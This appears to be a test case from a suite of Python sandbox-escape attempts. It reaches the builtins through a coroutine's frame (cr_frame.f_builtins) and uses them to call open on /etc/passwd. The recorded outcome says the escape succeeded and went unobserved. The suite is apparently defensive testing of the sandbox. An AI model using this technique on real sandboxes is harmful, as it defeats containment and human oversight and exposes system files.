# id: L05
# family: language
# goal: reach builtins through the frame of a coroutine
# finding: PY106 PY115
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    async def walk():
        return 1

    waiting = walk()
    names = waiting.cr_frame.f_builtins
    waiting.close()
    return names["open"]("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
